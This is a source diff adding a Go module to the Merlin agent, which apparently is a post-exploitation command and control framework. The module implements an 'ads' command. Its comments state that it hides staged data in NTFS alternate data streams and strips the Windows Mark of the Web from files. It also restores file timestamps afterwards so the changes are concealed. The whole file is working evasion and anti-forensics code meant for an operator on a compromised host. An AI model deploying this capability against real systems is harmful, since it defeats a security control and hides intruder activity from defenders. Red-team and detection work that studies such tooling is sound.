@@ -0,0 +1,302 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bufio"
+	"bytes"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"syscall"
+	"time"
+	"unicode/utf8"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/os/windows/api/kernel32"
+)
+
+// motwStream is the alternate data stream that holds a file's Mark of the Web (MOTW)
+const motwStream = "Zone.Identifier"
+
+// urlZones are the names of the URL security zones a Zone.Identifier's ZoneId refers to
+var urlZones = map[string]string{
+	"0": "Local Machine",
+	"1": "Local Intranet",
+	"2": "Trusted Sites",
+	"3": "Internet",
+	"4": "Restricted Sites",
+}
+
+// ADS lists, reads, writes, and deletes NTFS alternate data streams, to hide staged data or to inspect and remove the
+// Mark of the Web (MOTW). A directory is listed one level deep. The file's timestamps are restored after a stream is
+// written or deleted. Data to write is text unless it is prefixed with base64:
+// ads list <path>
+// ads read <path> <stream>
+// ads write <path> <stream> <data>
+// ads delete <path> <stream>
+// ads motw <path> [remove]
+func ADS(cmd jobs.Command) (results jobs.Results) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering ADS() with %+v", cmd))
+	}
+	if len(cmd.Args) < 2 {
+		results.Stderr = "the ads command requires a subcommand and a path"
+		return
+	}
+	path := cmd.Args[1]
+
+	var err error
+	switch strings.ToLower(cmd.Args[0]) {
+	case "list", "ls":
+		results.Stdout, err = adsList(path)
+	case "read", "cat":
+		if len(cmd.Args) < 3 {
+			results.Stderr = "the ads read command requires a path and a stream name"
+			return
+		}
+		results.Stdout, err = adsRead(path, cmd.Args[2])
+	case "write":
+		if len(cmd.Args) < 4 {
+			results.Stderr = "the ads write command requires a path, a stream name, and the data to write"
+			return
+		}
+		data := []byte(strings.Join(cmd.Args[3:], " "))
+		if strings.HasPrefix(cmd.Args[3], "base64:") {
+			data, err = base64.StdEncoding.DecodeString(strings.TrimPrefix(cmd.Args[3], "base64:"))
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error decoding the base64 data: %s", err)
+				return
+			}
+		}
+		err = adsPreserveTimes(path, func() error {
+			return os.WriteFile(adsPath(path, cmd.Args[2]), data, 0600)
+		})
+		if err == nil {
+			results.Stdout = fmt.Sprintf("Wrote %d bytes to %s\n", len(data), adsPath(path, cmd.Args[2]))
+		}
+	case "delete", "del", "rm":
+		if len(cmd.Args) < 3 {
+			results.Stderr = "the ads delete command requires a path and a stream name"
+			return
+		}
+		err = adsDelete(path, cmd.Args[2])
+		if err == nil {
+			results.Stdout = fmt.Sprintf("Deleted %s\n", adsPath(path, cmd.Args[2]))
+		}
+	case "motw":
+		remove := len(cmd.Args) > 2 && strings.ToLower(cmd.Args[2]) == "remove"
+		results.Stdout, err = adsMOTW(path, remove)
+	default:
+		results.Stderr = fmt.Sprintf("unknown ads command: %s", cmd.Args[0])
+		return
+	}
+	if err != nil {
+		results.Stderr = err.Error()
+	}
+	return
+}
+
+// adsPath returns the path to a file's named stream. The stream name can include the leading colon and the $DATA type
+func adsPath(path, stream string) string {
+	stream = strings.TrimPrefix(stream, ":")
+	stream = strings.TrimSuffix(stream, ":$DATA")
+	return path + ":" + stream
+}
+
+// adsStreams returns the names and sizes of a file's alternate data streams, without the unnamed default stream
+func adsStreams(path string) (map[string]int64, error) {
+	streams := make(map[string]int64)
+	var data kernel32.Win32FindStreamData
+	handle, err := kernel32.FindFirstStreamW(path, &data)
+	if err != nil {
+		if err == windows.ERROR_HANDLE_EOF {
+			return streams, nil
+		}
+		return nil, fmt.Errorf("there was an error listing the streams of %s: %s", path, err)
+	}
+	defer windows.FindClose(handle) // #nosec G104 the handle is only read from
+	for {
+		// Stream names are returned as :name:$DATA and the default stream as ::$DATA
+		name := strings.TrimSuffix(strings.TrimPrefix(windows.UTF16ToString(data.StreamName[:]), ":"), ":$DATA")
+		if name != "" {
+			streams[name] = data.StreamSize
+		}
+		if err = kernel32.FindNextStreamW(handle, &data); err != nil {
+			if err == windows.ERROR_HANDLE_EOF {
+				return streams, nil
+			}
+			return streams, fmt.Errorf("there was an error listing the streams of %s: %s", path, err)
+		}
+	}
+}
+
+// adsList lists the alternate data streams of a file or of a directory and each of its entries
+func adsList(path string) (string, error) {
+	info, err := os.Stat(path)
+	if err != nil {
+		return "", err
+	}
+	paths := []string{path}
+	if info.IsDir() {
+		entries, err := os.ReadDir(path)
+		if err != nil {
+			return "", err
+		}
+		for _, entry := range entries {
+			paths = append(paths, filepath.Join(path, entry.Name()))
+		}
+	}
+
+	var out strings.Builder
+	var count int
+	for _, p := range paths {
+		streams, err := adsStreams(p)
+		if err != nil {
+			out.WriteString(err.Error() + "\n")
+			continue
+		}
+		names := make([]string, 0, len(streams))
+		for name := range streams {
+			names = append(names, name)
+		}
+		sort.Strings(names)
+		for _, name := range names {
+			fmt.Fprintf(&out, "%s:%s (%d bytes)\n", p, name, streams[name])
+			count++
+		}
+	}
+	fmt.Fprintf(&out, "%d alternate data streams in %d file(s)\n", count, len(paths))
+	return out.String(), nil
+}
+
+// adsRead returns a stream's contents as text, or as a hex dump if it is not text
+func adsRead(path, stream string) (string, error) {
+	data, err := readFile(adsPath(path, stream))
+	if err != nil {
+		return "", err
+	}
+	if utf8.Valid(data) {
+		return string(data), nil
+	}
+	return hex.Dump(data), nil
+}
+
+// adsDelete removes a named stream from a file, leaving the file's default stream and timestamps unchanged
+func adsDelete(path, stream string) error {
+	return adsPreserveTimes(path, func() error {
+		return os.Remove(adsPath(path, stream))
+	})
+}
+
+// adsPreserveTimes runs change and restores the file's access and modification times afterwards because changing a
+// stream updates the times of the file it belongs to
+func adsPreserveTimes(path string, change func() error) error {
+	info, err := os.Stat(path)
+	if err != nil {
+		return err
+	}
+	var atime time.Time
+	if attr, ok := info.Sys().(*syscall.Win32FileAttributeData); ok {
+		atime = time.Unix(0, attr.LastAccessTime.Nanoseconds())
+	}
+	if err = change(); err != nil {
+		return err
+	}
+	if atime.IsZero() {
+		atime = time.Now()
+	}
+	if err = os.Chtimes(path, atime, info.ModTime()); err != nil {
+		return fmt.Errorf("the stream was changed but there was an error restoring the timestamps of %s: %s", path, err)
+	}
+	return nil
+}
+
+// adsMOTW reports the Mark of the Web for a file, or for each file in a directory that has one, and optionally removes it
+func adsMOTW(path string, remove bool) (string, error) {
+	info, err := os.Stat(path)
+	if err != nil {
+		return "", err
+	}
+	paths := []string{path}
+	if info.IsDir() {
+		paths = nil
+		entries, err := os.ReadDir(path)
+		if err != nil {
+			return "", err
+		}
+		for _, entry := range entries {
+			if !entry.IsDir() {
+				paths = append(paths, filepath.Join(path, entry.Name()))
+			}
+		}
+	}
+
+	var out strings.Builder
+	var count int
+	for _, p := range paths {
+		data, err := os.ReadFile(adsPath(p, motwStream)) // #nosec G304 Users can include any file they want
+		if err != nil {
+			if !info.IsDir() {
+				fmt.Fprintf(&out, "%s does not have a Mark of the Web\n", p)
+			}
+			continue
+		}
+		count++
+		fmt.Fprintf(&out, "%s:\n", p)
+		scanner := bufio.NewScanner(bytes.NewReader(data))
+		for scanner.Scan() {
+			key, value, found := strings.Cut(strings.TrimSpace(scanner.Text()), "=")
+			if !found {
+				continue
+			}
+			if key == "ZoneId" {
+				if zone, ok := urlZones[value]; ok {
+					value += " (" + zone + ")"
+				}
+			}
+			fmt.Fprintf(&out, "\t%s: %s\n", key, value)
+		}
+		if remove {
+			if err = adsDelete(p, motwStream); err != nil {
+				fmt.Fprintf(&out, "\tthere was an error removing the Mark of the Web: %s\n", err)
+			} else {
+				out.WriteString("\tRemoved the Mark of the Web\n")
+			}
+		}
+	}
+	if info.IsDir() {
+		fmt.Fprintf(&out, "%d of %d files have a Mark of the Web\n", count, len(paths))
+	}
+	return out.String(), nil
+}